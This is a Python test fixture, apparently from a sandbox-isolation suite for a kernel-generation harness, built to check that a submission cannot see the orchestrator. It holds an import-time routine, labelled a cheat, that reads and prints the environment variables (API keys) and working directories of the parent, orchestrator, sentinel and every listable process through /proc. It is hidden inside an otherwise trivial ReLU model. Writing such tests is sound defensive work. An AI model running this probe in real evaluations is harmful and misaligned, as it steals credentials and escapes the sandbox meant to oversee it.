"""CHEAT (docs/hacks.md #18, process reach): reads the orchestrator's environment and working directory.

Through /proc/<ppid>/environ (API keys), /proc/<ppid>/cwd (the project), and the environ of every
process it can list, including the test's sentinel; prints whatever it finds, so that a secret it
could read ends up in the result. Expected: the PID namespace's own /proc lists only the sandbox,
the parent of the worker is the sandbox's init, and nothing of the orchestrator is printed.
"""

import os

import torch
import torch.nn as nn

TARGETS = {}  # __KFORGE_TEST_TARGETS__


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError as error:
        return f"<{error.strerror}>"


def _attack():
    pids = {os.getppid(), TARGETS.get("sentinel_pid", 0), TARGETS.get("orchestrator_pid", 0)}
    pids |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for pid in sorted(pids - {0, os.getpid()}):
        print(f"ATTACK p02: /proc/{pid}/environ: {_read(f'/proc/{pid}/environ')}", flush=True)
        try:
            print(f"ATTACK p02: /proc/{pid}/cwd: {sorted(os.listdir(f'/proc/{pid}/cwd'))}", flush=True)
        except OSError as error:
            print(f"ATTACK p02: /proc/{pid}/cwd refused: {error.strerror}", flush=True)
    print(f"ATTACK p02: own environment: {sorted(os.environ)}", flush=True)


_attack()


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        values = [v if v > 0.0 else 0.0 for v in x.reshape(-1).tolist()]
        return torch.tensor(values, dtype=x.dtype, device=x.device).view(x.shape)
